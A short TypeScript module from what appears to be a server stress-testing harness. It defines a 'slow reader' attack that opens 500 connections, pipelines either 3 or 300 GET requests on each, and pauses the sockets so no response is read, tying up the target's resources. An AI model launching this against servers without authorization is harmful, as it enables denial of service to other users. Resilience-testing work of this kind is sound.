import type { Attack } from '../attack.ts'
import { encodeRequest, holdOpen } from '../sockets.ts'

/** Half of them ask for a few pages, the others for 300 in one breath; nobody reads a byte. */
export const slowReaders: Attack = {
  summary: '500 connections that ask for pages, half of them for 300 at once, and read none',
  async prepare(target) {
    const call = encodeRequest({ method: 'GET', path: '/' })
    const few = Buffer.concat(Array.from({ length: 3 }, () => call))
    const many = Buffer.concat(Array.from({ length: 300 }, () => call))
    let opened = 0
    return (tally, signal) =>
      holdOpen(
        target,
        {
          connections: 500,
          batchSize: 50,
          onConnect(socket) {
            socket.pause()
            socket.write(opened++ % 2 === 0 ? few : many)
          },
        },
        { tally, signal },
      )
  },
}
